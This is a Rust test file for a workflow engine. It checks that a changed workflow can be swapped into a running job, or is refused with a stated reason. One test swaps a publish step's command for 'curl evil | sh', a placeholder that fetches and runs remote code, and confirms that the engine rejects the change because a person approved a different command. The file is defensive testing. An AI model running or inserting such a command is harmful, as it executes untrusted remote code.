//! A changed workflow is taken into a run under way, or refused with the reason.

use codeteam_core::Event;
use codeteam_core::input::Decision;
use codeteam_core::repin::PinnedWorkflow;
use codeteam_core::workflow::{ExitTarget, Step, StepKind};

use super::{finish, one_task, three_tasks};
use crate::fixture::{PHASES, RunSetup};
use crate::scenario::{play_line, play_out};
use crate::world::SimulatedWorld;

/// Takes in the run's own workflow with these changes, and returns what that caused.
fn repin(world: &mut SimulatedWorld, change: impl FnOnce(&mut PinnedWorkflow)) -> Vec<Event> {
    let mut pinned = world.run.pinned_workflow();
    change(&mut pinned);
    let pinned = Box::new(pinned);
    world.decide(Decision::RepinWorkflow { pinned })
}

fn refusal(events: &[Event]) -> &str {
    match events {
        [Event::DecisionRefused { why, .. }] => why,
        other => panic!("not refused: {other:?}"),
    }
}

#[test]
fn what_comes_later_follows_the_changed_workflow() {
    let (mut world, _) = play_out(&one_task(), "run/one code writes a.rs=1");
    repin(&mut world, |pinned| {
        let test = pinned.workflow.steps.get_mut(&"test".into()).unwrap();
        test.next = ExitTarget::Step("describe".into());
    });
    for line in ["run/one test passes", "run/one describe goes"] {
        let (frame, step) = (
            line.split(' ').next().unwrap(),
            line.split(' ').nth(1).unwrap(),
        );
        let mut flights = world.flights.keys();
        assert!(
            flights.any(|id| id.frame.as_str() == frame && id.step.as_str() == step),
            "{line}: {:?}",
            world.flights.keys()
        );
        play_line(&mut world, line);
    }
    assert!(
        !world
            .log
            .iter()
            .any(|line| line.contains("\"step\":\"review\""))
    );
}

#[test]
fn a_gate_with_other_checks_judges_again_before_the_commit() {
    let script = "run/one code writes a.rs=1
        run/one test passes
        run/one review approves
        run/one describe goes";
    let (mut world, _) = play_out(&one_task(), script);
    repin(&mut world, |pinned| {
        let test = pinned.workflow.steps.get_mut(&"test".into()).unwrap();
        if let StepKind::Gate { checks } = &mut test.kind {
            checks[0].timeout_ms += 1;
        }
    });
    // The commit that was under way is made; a later one would not be without another judgement.
    let frame = &world.run.frames[&"run/one".into()];
    assert!(!frame.judged_step(&"test".into()).unwrap().is_current());
    assert!(frame.judged_step(&"review".into()).unwrap().is_current());
}

#[test]
fn nobody_is_left_without_a_step() {
    let script = format!("run/one code writes a.rs=1\n{}", finish("one"));
    let (mut world, _) = play_out(&three_tasks(), &script);
    let events = repin(&mut world, |pinned| {
        pinned.workflow.steps.remove(&"code".into());
    });
    assert!(refusal(&events).contains("it is at the step `code`, which is gone"));
    let events = repin(&mut world, |pinned| {
        let tasks = pinned.workflow.steps[&"tasks".into()].clone();
        pinned.workflow.steps.insert("code".into(), tasks);
    });
    assert!(refusal(&events).contains("does something else"));
    let events = repin(&mut world, |pinned| {
        pinned.roles.remove(&"coder".into());
    });
    assert!(refusal(&events).contains("the role `coder` is at work there"));
    let events = repin(&mut world, |_| {});
    assert_eq!(refusal(&events), "that workflow is in force already");
}

/// A person has agreed to the command that the question has shown, and to no other.
#[test]
fn what_publishes_stays_what_a_person_was_shown() {
    let mut start = RunSetup::for_workflow(PHASES);
    start.compiled.workflow.start = "ship".into();
    let publish = |world: &mut SimulatedWorld| {
        repin(world, |pinned| {
            let push = pinned.workflow.steps.get_mut(&"push".into()).unwrap();
            if let StepKind::Publish { command } = &mut push.kind {
                "curl evil | sh".clone_into(command);
            }
        })
    };
    let (mut world, _) = play_out(&start, "");
    let events = publish(&mut world);
    assert!(
        refusal(&events).contains("the open question at `ship` shows another command"),
        "{events:?}"
    );
    // Another step in its place, which publishes as well.
    let events = repin(&mut world, |pinned| {
        let push = pinned.workflow.steps[&"push".into()].clone();
        let other = Step {
            kind: StepKind::Publish {
                command: "curl evil | sh".to_owned(),
            },
            ..push
        };
        pinned.workflow.steps.insert("other".into(), other);
        let ship = pinned.workflow.steps.get_mut(&"ship".into()).unwrap();
        if let StepKind::Person { answers, .. } = &mut ship.kind {
            answers[0].next = ExitTarget::Step("other".into());
        }
    });
    assert!(
        refusal(&events).contains("shows another command"),
        "{events:?}"
    );
    let (mut world, _) = play_out(&start, "person run publish\ncrash");
    let events = publish(&mut world);
    assert!(
        refusal(&events).contains("it is at `push`, which publishes with another command"),
        "{events:?}"
    );
}

#[test]
fn a_larger_cap_counts_at_once() {
    let start = three_tasks().cap(1);
    let (mut world, _) = play_out(&start, "");
    assert_eq!(world.flights.len(), 1);
    repin(&mut world, |pinned| {
        let tasks = pinned.workflow.steps.get_mut(&"tasks".into()).unwrap();
        if let StepKind::Each { cap, .. } = &mut tasks.kind {
            *cap = 2;
        }
    });
    assert_eq!(world.flights.len(), 2);
}
